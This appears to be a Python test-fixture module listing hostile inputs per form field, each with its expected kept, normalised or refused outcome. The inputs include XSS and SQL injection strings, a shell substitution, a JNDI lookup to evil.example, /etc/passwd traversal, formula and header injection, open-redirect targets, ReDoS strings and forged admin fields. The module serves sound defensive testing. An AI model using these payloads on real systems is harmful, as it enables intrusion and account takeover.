"""Nasty values by field, each with its class and its one documented outcome.

What is not here in so many words is one of these classes. There is no upload, no CSV and no
Markdown in the product: such text is text, and is kept.
"""

from dataclasses import dataclass
from typing import Any

from domain.values import BIO_LIMIT, NAME_LIMIT, PASSWORD_LIMITS, POST_LIMIT, REASON_LIMIT


@dataclass(frozen=True, slots=True)
class Row:
    """`stored` is what is kept of the value; None: it is refused beside its field."""

    kind: str
    value: Any
    stored: Any = None


def kept(values: dict[str, str]) -> list[Row]:
    return [Row(kind, value, value) for kind, value in values.items()]


def turned(values: dict[str, tuple[Any, Any]]) -> list[Row]:
    return [Row(kind, value, stored) for kind, (value, stored) in values.items()]


def refused(values: dict[str, Any]) -> list[Row]:
    return [Row(kind, value) for kind, value in values.items()]


SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "</ScRiPt><sCrIpT>alert(1)</sCrIpT>",
    "end of title": "</title><script>alert(1)</script>",
    "end of text area": "</textarea><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "image without spaces": "<img/src=x/onerror=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1&#41;</script>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "attribute": '" autofocus onfocus=alert(1) x="',
    "attribute in apostrophes": "' onmouseover='alert(1)",
    "end of a string": '");alert(1)//',
    "template literal": "`${alert(1)}`",
    "moustache": "{{constructor.constructor('alert(1)')()}}",
    "braces of React": "{alert(1)}",
    "address of a script": "javascript:alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "Markdown link": "[x](javascript:alert(1))",
    "comment": "<!--><script>alert(1)</script>-->",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
}
STATEMENTS = {
    "SQL": "'; drop table users; --",
    "SQL true": "' or 1=1 --",
    "SQL sleep": "1'); select pg_sleep(5); --",
    "SQL dollar": "$$; select 1; $$",
    "placeholders": "%s %(name)s :name ? $1",
    "LIKE": "100%_\\",
    "LIKE escape": "\\%\\_",
    "format": "{0.__class__.__mro__}",
    "shell": "$(touch /tmp/x) `id` | cat",
    "lookup": "${jndi:ldap://evil.example/a}",
    "path": "../../../../etc/passwd",
    "formula": "=HYPERLINK(1)",
    "formula plus": "+1+1",
    "formula minus": "-1+1",
    "formula at": "@SUM(A1)",
    "null in words": "null",
    "NaN in words": "NaN",
    "undefined": "undefined",
    "object key": "__proto__",
    "rich markup": "[red]x[/red]",
}
LETTERS = {
    "Turkish dots": "İıIi",
    "long s and sharp s": "ſßẞ",
    "ligature": "oﬃce",
    "zero width joiner": "👩\u200d🚀",
    "zero width non-joiner": "علی\u200cرضا",
    "right to left": "שלום Ann",
    "flag": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "beyond the first plane": "𝒜𝓃𝓃 𠮷",
    "look-alike": "Аnn",  # the first letter is Cyrillic
    "marks of one letter": "Z" + "\u0348" * 8,
    "private use": "a\ue000b",
    "replacement character": "a\ufffdb",
}
# They come with texts from elsewhere, where they do no harm; a name would pass for another one.
UNSEEN = {
    "byte order mark": "a\ufeffb",
    "soft hyphen": "a\u00adb",
    "zero width space": "a\u200bb",
    "direction mark": "a\u200eb",
    "word joiner": "a\u2060b",
}
RECOMPOSED = {
    "two code points for one": ("Zoe\u0301", "Zo\u00e9"),
    "Kelvin sign": ("\u212aim", "Kim"),
    "Angstrom sign": ("\u212bsa", "Åsa"),
    "Hangul letters": ("\u1112\u1161\u11ab", "한"),
    "spaces around": (" \u3000 Ann\u00a0 ", "Ann"),
}
CONTROLS = {
    "NUL": "a\0b",
    "backspace": "a\bb",
    "escape": "a\x1b[31mred",
    "bell": "a\ab",
    "delete": "a\x7fb",
    "C1 control": "a\x9b31mb",
    "high surrogate": "a\ud800b",
    "low surrogate": "a\udfffb",
    "swapped surrogates": "\udc00\ud800",
    "left-to-right override": "a\u202db",
    "right-to-left override": "a\u202eb",
    "embedding": "a\u202ab",
    "isolate": "a\u2066b",
    "end of isolate": "a\u2069b",
    "combining flood": "Z" + "\u0348" * 100,
    "no character": "a\ufffeb",
    "no character of the last plane": "a\U0010ffffb",
    "tags": "a\U000e0061\U000e0062b",
}
INVISIBLE = {
    "empty": "",
    "spaces": " \t\u3000 ",
    "zero width only": "\u200b\u200d",
    "filler": "\u3164",
    "empty Braille": "\u2800",
    "tags only": "\U000e0041",
    "soft hyphen": "\u00ad",
    "mark alone": "\u0301",
    "empty note": "\U0001d159",
    "object": "\ufffc",
}
NO_TEXT = {
    "nothing": None,
    "truth": True,
    "number": 7,
    "not a number": float("nan"),
    "infinity": float("inf"),
    "huge number": 10**400,
    "list": ["ann@example.org", "eve@example.org"],
    "object": {"$ne": ""},
    "nested": [[[{"a": [None]}]]],
}


def some(rows: list[Row]) -> list[Row]:
    """A third, of each class: for a way in where another field of the same kind has them all."""
    return rows[::3]


def _limits(limit: int) -> list[Row]:
    """At the limit, beyond it, and beyond it only once it is normalised."""
    return [
        Row("at the limit", "é" * limit, "é" * limit),
        *refused(
            {
                "too long": "é" * (limit + 1),
                "much too long": "a" * 20_000,
                "too long once composed": "\ufb2c" * limit,
            }
        ),
    ]


_TEXT = [*kept(SCRIPTS), *kept(STATEMENTS), *kept(LETTERS), *turned(RECOMPOSED), *refused(CONTROLS)]
_LINES = turned(
    {
        "mail header": ("Hi\r\nBcc: eve@example.org", "Hi\nBcc: eve@example.org"),
        "old line ends": ("a\rb", "a\nb"),
        "tab": ("a\tb", "a\tb"),
        "Unicode line end": ("a\u2028b", "a\u2028b"),
    }
) + kept(UNSEEN)
_NEXT_LINE = refused({"next line": "a\x85b"})
NAMES = [
    *_TEXT,
    *refused(INVISIBLE),
    *_limits(NAME_LIMIT),
    *refused(UNSEEN),
    *refused(
        {
            "mail header": "Ann\r\nBcc: eve@example.org",
            "line end": "a\nb",
            "old line end": "a\rb",
            "Unicode line end": "a\u2028b",
            "next line": "a\x85b",
            "file separator": "a\x1cb",
        }
    ),
    *turned({"tab": ("a\tb", "a b"), "unit separator": ("a\x1fb", "a b")}),
]
BIOS = [*_TEXT, *_LINES, *_NEXT_LINE, *_limits(BIO_LIMIT), Row("empty", "", "")]
POSTS = [*_TEXT, *_LINES, *_NEXT_LINE, *_limits(POST_LIMIT), *refused(INVISIBLE)]
REASONS = [*_TEXT, *_LINES, *_NEXT_LINE, *_limits(REASON_LIMIT), *refused(INVISIBLE)]

EMAILS = [
    *turned(
        {
            "capitals": (" Ann@Example.ORG ", "Ann@example.org"),
            "line end": ("ann@example.org\r\n", "ann@example.org"),
            "byte order mark": ("\ufeffann@example.org", "ann@example.org"),
            "zero width around": ("\u200bann@example.org\u200e", "ann@example.org"),
            "umlaut domain": ("ann@bücher.example", "ann@xn--bcher-kva.example"),
            "look-alike domain": ("ann@exаmple.org", "ann@xn--exmple-4nf.org"),
            "wide letters": ("ann@ｅxample.org", "ann@example.org"),
            "wide dot": ("ann@example。org", "ann@example.org"),
            "Kelvin domain": ("ann@\u212aim.org", "ann@kim.org"),
            "long s domain": ("ann@ſ.org", "ann@s.org"),
            "ligature domain": ("ann@oﬃce.org", "ann@office.org"),
            "sharp s domain": ("ann@straße.org", "ann@xn--strae-oqa.org"),
            "dotted I domain": ("ann@İstanbul.org", "ann@xn--istanbul-o0e.org"),
            "dotless i domain": ("ann@ı.org", "ann@xn--cfa.org"),
            "Hebrew domain": ("ann@א.org", "ann@xn--4db.org"),
        }
    ),
    *kept(
        {
            "punycode": "ann@xn--80ak6aa92e.com",
            "plus": "ann+list@example.org",
            "SQL": "ann'or'1'='1@example.org",
            "formula": "=cmd|calc@example.org",
            "longest local part": "a" * 64 + "@example.org",
            "private domain": "ann@example.test",
        }
    ),
    *refused(
        {kind: f"{value}@example.org" for kind, value in (SCRIPTS | CONTROLS).items()}
        | {f"{kind} in the domain": f"ann@{value}.org" for kind, value in CONTROLS.items()}
        | {
            "nothing at all": "",
            "no sign": "ann",
            "two signs": "ann@b@example.org",
            "no dot": "ann@localhost",
            "dots": "ann@example..org",
            "dot at the end": "ann@example.org.",
            "two addresses": "ann@example.org,eve@example.org",
            "with a name": "Ann <ann@example.org>",
            "mailto": "mailto:ann@example.org",
            "quoted": '"ann lee"@example.org',
            "number of a host": "ann@127.0.0.1",
            "host in brackets": "ann@[127.0.0.1]",
            "mail header": "ann@example.org\r\nBcc: eve@example.org",
            "encoded mail header": "ann%0d%0aBcc:eve@example.org",
            "Turkish local part": "İlknur@example.org",
            "dotless local part": "ıan@example.org",
            "Kelvin local part": "\u212aim@example.org",
            "long s local part": "ſam@example.org",
            "sharp s local part": "straße@example.org",
            "ligature local part": "oﬃce@example.org",
            "wide local part": "ａnn@example.org",
            "zero width": "ann@exam\u200dple.org",
            "soft hyphen": "ann@ex\u00adample.org",
            "fraction slash": "ann@example.org\u2044evil.example",
            "broken punycode": "ann@xn--0.org",
            "mixed directions": "ann@aא.org",
            "emoji": "ann@😀.org",
            "Arabic digit": "ann@١.org",
            "mark alone": "ann@\u0301.org",
            "long local part": "a" * 65 + "@example.org",
            "long label": "ann@" + "a" * 64 + ".org",
            "long domain": "ann@" + "a.aaaa" * 50 + ".org",
            "path": "ann/../../etc@[example.org]",
        }
    ),
]
SLOW = {  # what makes a careless pattern go back and forth for ever
    "letters": "a" * 50_000 + "!",
    "signs": "@" * 50_000,
    "dots": "a@" + "a." * 25_000 + "org",
    "dotted local part": "a." * 25_000 + "@example.org",
    "quotes": '"' * 50_000 + "@example.org",
    "spaces": " " * 50_000 + "x",
    "spaces inside": "a" + " " * 50_000 + "b@example.org",
    "punycode": "a@xn--" + "a" * 50_000,
    "umlauts": "a@" + "ü" * 50_000 + ".org",
    "marks": "a" + "\u0301\u0323" * 25_000,
    "slashes": "/a" * 25_000,
    "dashes": "2099-01-31T12:00" + "0" * 50_000,
    "words": "a " * 25_000,
}

# In 15 code points at least, and hard to guess.
_PASSWORD = "vintage otter lamp "
PASSWORDS = [
    *kept(
        {kind: f"{_PASSWORD}{value}" for kind, value in LETTERS.items()}
        | {
            "NUL": f"{_PASSWORD}\0x",
            "controls": f"{_PASSWORD}\x1b[31m\x07",
            "direction": f"{_PASSWORD}\u202eabc",
            "line ends": f"{_PASSWORD}\r\nx",
            "spaces around": f"  {_PASSWORD}",
            "at the limit": f"{_PASSWORD}" + "é" * (PASSWORD_LIMITS[1] - len(_PASSWORD)),
        }
    ),
    Row("two code points for one", f"{_PASSWORD}e\u0301", f"{_PASSWORD}\u00e9"),
    *refused(
        {
            "empty": "",
            "short": "otter lamp 14c",
            "short once composed": "e\u0301" * 14,
            "too long": "a" * (PASSWORD_LIMITS[1] + 1),
            "much too long": "a" * 20_000,
            "high surrogate": f"{_PASSWORD}\ud800",
            "low surrogate": f"{_PASSWORD}\udfff",
        }
    ),
]
# A password, and another one that a careless check takes for it.
NOT_THE_SAME = {
    "case": (_PASSWORD + "x", _PASSWORD.upper() + "X"),
    "space at the end": (_PASSWORD + "x", _PASSWORD + "x "),
    "space before": (_PASSWORD + "x", " " + _PASSWORD + "x"),
    "after 72 bytes": (_PASSWORD * 4 + "a", _PASSWORD * 4 + "b"),
    "after NUL": (_PASSWORD + "\0a", _PASSWORD + "\0b"),
    "cut at the limit": (_PASSWORD + "a" * 1000, _PASSWORD + "a" * 1001),
    "ligature": (_PASSWORD + "ﬃ", _PASSWORD + "ffi"),
    "wide letters": (_PASSWORD + "ａ", _PASSWORD + "a"),
    "Kelvin and small k": (_PASSWORD + "K", _PASSWORD + "k"),
}

ID = "0199f3c2-6d1a-7c3e-9a55-0d5c8f1f2b7a"
IDS = [
    *turned(
        {
            "plain": (ID, ID),
            "capitals": (ID.upper(), ID),
            "without dashes": (ID.replace("-", ""), ID),
            "braces": (f"{{{ID}}}", ID),
            "urn": (f"urn:uuid:{ID}", ID),
        }
    ),
    *refused(
        (STATEMENTS | CONTROLS)
        | {
            "empty": "",
            "short": ID[:-1],
            "long": ID + "0",
            "line end": ID + "\n",
            "no hex": ID.replace("9", "g"),
            "wide digits": ID.replace("0", "０"),
            "number": "1",
            "much too long": "a" * 20_000,
        }
    ),
]
MOMENTS = [
    *turned(
        {
            "zone": ("2099-01-31T12:00:00+01:00", "2099-01-31T11:00:00+00:00"),
            "far": ("9999-12-31T23:59:59Z", "9999-12-31T23:59:59+00:00"),
            "in summer": ("2099-07-01 12:00Z", "2099-07-01T12:00:00+00:00"),
        }
    ),
    *refused(
        (STATEMENTS | CONTROLS)
        | {
            "seconds": "4070908800",
            "seconds as a number": 4070908800,
            "not a number": float("nan"),
            "infinity": float("inf"),
            "huge number": 10**400,
            "truth": True,
            "list": ["2099-01-31T12:00:00Z"],
            "object": {"year": 2099},
            "without zone": "2099-01-31T12:00:00",
            "day only": "2099-01-31",
            "no such day": "2099-02-30T12:00:00Z",
            "no such hour": "2099-01-31T25:00:00Z",
            "no such month": "2099-13-01T12:00:00Z",
            "beyond the calendar": "9999-12-31T23:59:59-12:00",
            "before the calendar": "0001-01-01T00:00:00+14:00",
            "endless": "infinity",
            "Arabic digits": "٢٠٩٩-٠١-٣١T12:00:00Z",
            "much too long": "2099-01-31T12:00:00" + "0" * 10_000,
        }
    ),
]
# Of a list in JSON: what is out of bounds is refused.
NUMBERS = [
    Row("one", "1", 1),
    Row("spaces around", " 2", 2),
    *refused(
        STATEMENTS
        | {
            "zero": "0",
            "negative": "-1",
            "fraction": "1.5",
            "exponent": "1e9",
            "hexadecimal": "0x10",
            "infinity": "Infinity",
            "not a number": "NaN",
            "huge": "9" * 400,
            "enormous": "9" * 5_000,
            "truth": "true",
            "empty": "",
            "NUL": "\0",
        }
    ),
]
# The second is where one is led; None: to the first page.
TARGETS = [
    *kept(
        {
            "page": "/statistics",
            "person": f"/people/{ID}",
            "query": "/?q=a%20b&x=//evil.example",
            "fragment": "/account#top",
            "script in a query": "/?q=<script>alert(1)</script>".replace("<", "%3C"),
            "letters": "/people/Zoë",
        }
    ),
    *refused(
        {
            "other site": "https://evil.example",
            "other site without scheme": "//evil.example",
            "three slashes": "///evil.example",
            "backslash": "/\\evil.example",
            "backslashes": "\\\\evil.example",
            "slash and backslash": "/\\/evil.example",
            "dot segment": "/.//evil.example",
            "dots": "/..//evil.example",
            "tab": "/\t/evil.example",
            "line end": "/\n/evil.example",
            "header": "/a\r\nset-cookie: rollcall=x",
            "leading space": " /statistics",
            "leading control": "\x01https://evil.example",
            "script": "javascript:alert(1)",
            "data": "data:text/html,x",
            "credentials": "https://localhost:8000@evil.example",
            "one slash": "https:/evil.example",
            "no slash": "https:evil.example",
            "relative": "evil.example",
            "wide slash": "／／evil.example",
            "empty": "",
            "NUL": "/a\0b",
            "much too long": "/" + "a" * 5_000,
            "sign-in itself": "/sign-in?next=/sign-in",
            "a form's address": "/auth/sign-out",
        }
    ),
]
# No session, no link and no code is any of these.
TOKENS = (
    SCRIPTS
    | STATEMENTS
    | CONTROLS
    | {
        "empty": "",
        "short": "a",
        "right length": "a" * 43,
        "much too long": "a" * 20_000,
        "spaces": "   ",
        "wide": "ａ" * 43,
        "encoded NUL": "%00",
        "digits": "000000",
        "wide digits": "００００００",
        "superscript digits": "²³¹²³¹",
    }
)
# What somebody adds to a form or a body, hoping that it is believed.
EXTRAS = {
    "id": ID,
    "user_id": ID,
    "role": "admin",
    "status": "active",
    "is_system": "true",
    "is_admin": "true",
    "permissions": "role.change",
    "version": "99",
    "email_verified": "true",
    "email_verified_at": "2026-01-01T00:00:00Z",
    "verified": "true",
    "password_hash": "$argon2id$v=19$m=8,t=1,p=1$c29tZXNhbHQ$x",
    "inserted_at": "2000-01-01T00:00:00Z",
    "created_at": "2000-01-01T00:00:00Z",
    "last_activity_at": "2099-01-01T00:00:00Z",
    "actor": ID,
    "permission": "admin.create",
    "__class__": "CreateAdmin",
    "__proto__": "x",
}
